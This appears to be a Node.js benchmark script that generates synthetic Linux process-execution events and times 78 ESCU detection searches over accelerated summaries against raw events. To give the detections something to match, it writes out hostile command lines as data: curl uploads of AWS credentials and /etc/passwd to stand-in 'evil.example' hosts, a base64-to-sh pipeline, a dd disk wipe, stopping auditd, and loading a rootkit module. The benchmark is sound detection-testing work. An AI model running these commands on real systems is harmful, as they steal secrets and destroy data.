#!/usr/bin/env node
// `npm run bench:tstats`: data model acceleration (issue #10). Appends N (default 1M) process_exec events in one
// hour to a fresh store (deterministic: many binaries, arguments, users, nodes and pods, ~1% of them what ESCU's
// Linux detections look for), builds the Endpoint summaries as `vigil serve` does (build rate), then runs the 78
// Linux Endpoint.Processes searches of ../shared/reference/escu-2024-10 verbatim (ESCU's macros, every *_filter
// = `search *`) over that hour: from the summaries (summariesonly=true; cold, then warm) and over raw events
// without acceleration, checking both give the same rows. Prints per-search max/median, totals, and the
// summaries' size beside the raw events'.
//   node bench/tstats.mjs [--events 1000000] [--raw 78] [--only TEXT] [--dir DIR]
//   (--raw: how many searches to also run raw, 0: none; --only: the searches whose name contains TEXT;
//   --dir: keep the store and summaries in DIR and reuse them on the next run with the same --events)
// Needs `npm run build:server`. Targets (issue #10): 78 searches from summaries < 2 s in total, each < 100 ms;
// summaries <= 30% of the raw events.
import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { processExec, rng } from '../scripts/tetragon-factory.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const args = process.argv.slice(2);
const opt = (n, d) => (args.includes(`--${n}`) ? args[args.indexOf(`--${n}`) + 1] : d);
const N = Number(opt('events', '1000000'));
const RAW = Number(opt('raw', '78'));
const ONLY = opt('only', '');
const KEEP = opt('dir', '');
const CORPUS = join(here, '..', '..', 'shared', 'reference', 'escu-2024-10');
if (!existsSync(join(CORPUS, 'searches.jsonl'))) {
  process.stdout.write(`bench:tstats: ${CORPUS} is absent; nothing to run\n`);
  process.exit(0);
}

const { openStore } = await import('../dist/bundle/store.sqlite-store.js');
const { loadContent } = await import('../dist/bundle/detections.content.js');
const { runSearch } = await import('../dist/bundle/spl.index.js');
const { MacroLibrary } = await import('../dist/bundle/spl.macros.macros.js');
const { toObject } = await import('../dist/bundle/events.result.js');
const { AccelerationService, openSummaryReader } = await import('../dist/bundle/acceleration.service.js');
const { accelerationSettings } = await import('../dist/bundle/acceleration.settings.js');

const jsonl = (f) => readFileSync(join(CORPUS, f), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
const searches = jsonl('searches.jsonl').filter((s) => s.file.startsWith('detections/endpoint/') && s.name.startsWith('Linux') && s.search.includes('datamodel=Endpoint.Processes'))
  .filter((s) => s.name.includes(ONLY));
const pack = loadContent();
/** The content's macros, ESCU's over them, every detection's filter macro `search *`; summariesonly as given. */
const macrosWith = (summariesOnly) => {
  const m = new MacroLibrary().with(pack.macros.all());
  for (const x of jsonl('macros.jsonl')) m.define({ name: x.name.replace(/\(\d+\)$/, ''), args: x.arguments ?? [], definition: x.definition });
  for (const s of searches) m.defineDefault({ name: `${s.name.toLowerCase().replace(/[^a-z0-9]/g, '_')}_filter`, args: [], definition: 'search *' });
  m.define({ name: 'summariesonly_config', args: [], definition: String(summariesOnly) });
  return m;
};

// --- events: one hour, deterministic --------------------------------------------------------------------
const r = rng(10);
const pick = (xs) => xs[Math.floor(r() * xs.length)];
const hex = (n) => Math.floor(r() * 16 ** n).toString(16).padStart(n, '0');
const COMMON = [
  ['/usr/local/bin/node', () => `server.js --port ${8000 + Math.floor(r() * 100)}`],
  ['/usr/bin/python3', () => `/app/worker.py --job ${Math.floor(r() * 1e6)}`],
  ['/bin/sh', () => `-c /opt/probe.sh ${hex(6)}`],
  ['/usr/bin/bash', () => pick(['', '-l', `/home/deploy/run-${hex(4)}.sh`])],
  ['/bin/ls', () => pick(['-la /tmp', '/var/log', `-l /data/${hex(5)}`])],
  ['/usr/bin/cat', () => `/proc/${Math.floor(r() * 40000)}/status`],
  ['/usr/bin/grep', () => `-r ${pick(['ERROR', 'WARN', 'timeout'])} /var/log/app`],
  ['/usr/bin/curl', () => `-s http://localhost:${8000 + Math.floor(r() * 100)}/healthz`],
  ['/usr/bin/awk', () => "'{print $1}'"],
  ['/usr/bin/sed', () => `-n ${Math.floor(r() * 99)}p /etc/hosts`],
  ['/usr/bin/find', () => `/tmp -mtime +${Math.floor(r() * 9)}`],
  ['/usr/bin/ps', () => 'aux'],
  ['/usr/bin/java', () => `-Xmx2g -jar /opt/app-${hex(3)}.jar`],
  ['/usr/sbin/nginx', () => '-g daemon off;'],
  ['/usr/bin/git', () => `fetch origin ${hex(8)}`],
  ['/usr/bin/tar', () => `czf /backup/b-${hex(6)}.tgz /data`],
];
// What ESCU's Linux detections look for (about 1% of the events).
const SUSPICIOUS = [
  ['/usr/sbin/useradd', () => `-m -s /bin/bash eve${Math.floor(r() * 50)}`],
  ['/usr/bin/sudo', () => pick(['su -', '-l', 'visudo', 'bash'])],
  ['/usr/bin/crontab', () => pick(['-e', '-l', '/tmp/cron.txt'])],
  ['/usr/bin/chmod', () => pick(['u+s /tmp/x', '4755 /tmp/sh', '777 /etc/shadow'])],
  ['/usr/sbin/insmod', () => `/tmp/rk${hex(3)}.ko`],
  ['/usr/bin/base64', () => '-d /tmp/payload'],
  ['/usr/bin/systemctl', () => pick(['start evil.service', 'enable backdoor', 'stop auditd'])],
  ['/usr/bin/at', () => 'now + 1 minute'],
  ['/usr/bin/curl', () => pick([`-T /root/.aws/credentials https://x${hex(3)}.example/up`, '--upload-file /etc/passwd https://evil.example', `-k https://${hex(4)}.example`])],
  ['/usr/bin/chattr', () => '+i /etc/passwd'],
  ['/usr/sbin/setcap', () => 'cap_setuid+ep /tmp/py'],
  ['/usr/bin/ssh-keygen', () => '-t rsa -f /root/.ssh/id'],
  ['/usr/bin/passwd', () => 'root'],
  ['/usr/bin/find', () => '/ -perm -4000 -type f'],
  ['/usr/bin/dd', () => 'if=/dev/zero of=/dev/sda bs=1M'],
  ['/usr/bin/bash', () => '-c "echo ZWNobyBoaQ== | base64 -d | sh"'],
];
const USERS = ['root', 'ubuntu', 'www-data', 'postgres', 'deploy', ...Array.from({ length: 40 }, (_, i) => `svc${i}`)];
const dir = KEEP || mkdtempSync(join(tmpdir(), 'vigil-bench-tstats-'));
const meta = join(dir, 'bench-tstats.json');
const reuse = existsSync(meta) && JSON.parse(readFileSync(meta, 'utf8')).events === N;
const store = await openStore(dir);
const hourStart = reuse ? JSON.parse(readFileSync(meta, 'utf8')).hourStart : Math.floor(Date.now() / 1000 / 3600) * 3600 - 7200;
let rawBytes = reuse ? JSON.parse(readFileSync(meta, 'utf8')).rawBytes : 0;
let t0 = performance.now();
let pending = [];
for (let i = 0; i < (reuse ? 0 : N); i += 1000) {
  const batch = [];
  for (let j = 0; j < 1000 && i + j < N; j++) {
    const n = i + j;
    const time = hourStart + (n * 3600) / N;
    const [binary, argsOf] = r() < 0.01 ? pick(SUSPICIOUS) : pick(COMMON);
    const node = `node-${Math.floor(r() * 20)}`;
    const host = r() < 0.3; // a host process: user names resolved; else a pod's
    const pod = host ? null : { name: `app-${Math.floor(r() * 200)}`, namespace: pick(['prod', 'staging', 'batch']), image: 'docker.io/acme/app:1', containerId: hex(8).repeat(8), containerName: 'app', containerStart: '2026-11-20T09:00:00.000000000Z' };
    const [pbin, pargs] = pick([['/bin/sh', () => '-c entry.sh'], ['/usr/bin/bash', () => ''], ['/usr/bin/containerd-shim', () => `-id ${hex(8)}`], ['/usr/lib/systemd/systemd', () => '--user']]);
    const ev = processExec({
      time,
      node,
      cluster: 'bench',
      process: { binary, args: argsOf(), pid: 10000 + (n % 50000), uid: host ? Math.floor(r() * 1000) : 0, cwd: pick(['/', '/app', '/root', '/tmp']), start: time, pod, ...(host ? { user: pick(USERS) } : {}) },
      parent: { binary: pbin, args: pargs(), pid: 9000 + (n % 997), start: hourStart - 60, pod: host ? null : undefined, ...(host ? { user: pick(USERS) } : {}) },
    });
    const raw = JSON.stringify(ev);
    rawBytes += raw.length;
    batch.push({ _time: time, index: 'main', sourcetype: 'cisco:isovalent:processExec', source: 'bench', host: 'node', _raw: raw });
  }
  pending.push(store.append(batch));
  if (pending.length >= 16) {
    await Promise.all(pending);
    pending = [];
  }
}
await Promise.all(pending);
if (KEEP && !reuse) writeFileSync(meta, JSON.stringify({ events: N, rawBytes, hourStart }));
const appendSecs = (performance.now() - t0) / 1000;
const fmt = (n) => Math.round(n).toLocaleString('en-US');
if (!reuse) process.stdout.write(`${fmt(N)} process_exec events in one hour appended in ${appendSecs.toFixed(1)} s; raw events ${(rawBytes / 1e6).toFixed(0)} MB (_raw), store ${((await store.indexes()).reduce((a, i) => a + i.bytes, 0) / 1e6).toFixed(0)} MB\n`);

// --- build the summaries as vigil serve does --------------------------------------------------------------
const settings = accelerationSettings(undefined, undefined);
const service = new AccelerationService(dir, store, settings, pack, 'UTC', () => Date.now() / 1000);
t0 = performance.now();
// The process's CPU meanwhile is the summary worker's (the other threads wait): the rate per core, which a
// busy shared machine does not skew as it does the wall-clock rate.
const cpu0 = process.cpuUsage();
await service.catchUp();
const buildSecs = (performance.now() - t0) / 1000;
const cpu = process.cpuUsage(cpu0);
const buildCpu = (cpu.user + cpu.system) / 1e6;
const processes = service.status().find((s) => s.model === 'Endpoint' && s.dataset === 'Processes');
const summaryBytes = service.status().reduce((a, s) => a + s.sizeBytes, 0);
await service.close();
const dbFile = statSync(join(dir, 'summaries.db')).size;
process.stdout.write(
  `${reuse ? 'summaries reused' : `summaries built in ${buildSecs.toFixed(1)} s: ${fmt(N / buildSecs)} events/s (${buildCpu.toFixed(1)} s of CPU: ${fmt(N / buildCpu)} events per CPU-second)`}; Endpoint.Processes ${fmt(processes.rows)} rows, ${(processes.sizeBytes / 1e6).toFixed(1)} MB; ` +
    `all Endpoint datasets ${(summaryBytes / 1e6).toFixed(1)} MB (summaries.db ${(dbFile / 1e6).toFixed(1)} MB) = ${((100 * dbFile) / rawBytes).toFixed(1)}% of the raw events\n`,
);

// --- the 78 searches ---------------------------------------------------------------------------------------
const reader = openSummaryReader(dir, store, settings);
const window = { now: hourStart + 3600, earliest: hourStart, latest: hourStart + 3600, tz: 'UTC', lookups: pack.lookups, knowledge: pack.knowledge, source: store };
const run = async (s, macros, summaries) => {
  const t = performance.now();
  const { results, stats } = await runSearch(s.search, { ...window, macros, name: s.name, ...(summaries ? { summaries } : {}) });
  return { ms: performance.now() - t, rows: results.map((x) => JSON.stringify(toObject(x))).sort(), scanned: stats.eventsScanned };
};
const summary = (label, xs) => {
  const ms = xs.map((x) => x.ms).sort((a, b) => a - b);
  const slowest = xs.reduce((a, b) => (b.ms > a.ms ? b : a));
  process.stdout.write(`${label}: ${xs.length} searches, total ${(ms.reduce((a, b) => a + b, 0) / 1000).toFixed(2)} s, median ${ms[ms.length >> 1].toFixed(1)} ms, max ${slowest.ms.toFixed(1)} ms (${slowest.name})\n`);
};
const accMacros = macrosWith(true);
const rawMacros = macrosWith(false);
const cold = [];
const warm = [];
const raw = [];
let mismatches = 0;
let failed = 0;
for (const [i, s] of searches.entries()) {
  try {
    const c = await run(s, accMacros, reader);
    const w = await run(s, accMacros, reader);
    cold.push({ name: s.name, ...c });
    warm.push({ name: s.name, ...w });
    let line = `  ${s.name}: summaries ${c.ms.toFixed(1)} ms cold, ${w.ms.toFixed(1)} ms warm, ${c.rows.length} rows, ${c.scanned} raw events read`;
    if (i < RAW) {
      const x = await run(s, rawMacros, null);
      raw.push({ name: s.name, ...x });
      const same = x.rows.length === c.rows.length && x.rows.every((v, k) => v === c.rows[k]);
      if (!same) mismatches++;
      line += `; raw ${x.ms.toFixed(0)} ms (${x.scanned} events read)${same ? '' : ` ROWS DIFFER (${x.rows.length} raw)`}`;
    }
    process.stdout.write(line + '\n');
  } catch (e) {
    failed++;
    process.stdout.write(`  ${s.name}: ERROR ${e.message}\n`);
  }
}
summary('from summaries (summariesonly=true), cold', cold);
summary('from summaries (summariesonly=true), warm', warm);
if (raw.length) summary('without acceleration (raw events)', raw);
process.stdout.write(`${failed} failed; ${raw.length ? `${mismatches} of ${raw.length} with rows differing between summaries and raw` : 'rows not compared (--raw 0)'}\n`);
process.stdout.write('targets: 78 searches from summaries < 2 s in total, each < 100 ms; summaries <= 30% of the raw events\n');
await store.close();
if (!KEEP) rmSync(dir, { recursive: true, force: true });
